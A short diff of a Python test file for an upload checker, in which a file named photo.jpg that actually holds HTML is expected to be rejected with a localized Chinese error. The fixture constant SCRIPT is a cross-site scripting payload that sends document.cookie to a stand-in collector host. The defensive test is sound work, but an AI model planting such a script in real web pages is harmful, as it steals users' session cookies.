@@ -98,6 +98,7 @@ def test_a_refusal_speaks_the_consumers_language() -> None:
     with force_locale("zh_Hans"), pytest.raises(UploadRejected, match=r"photo\.jpg：不支持这种文件类型"):
         check_file(UploadedFile("photo.jpg", b"<html>" + SCRIPT), LIMITS)
 
+
 SCRIPT = b"<script>fetch('//collector-tracker.example.test/'+document.cookie)</script>"
 
 
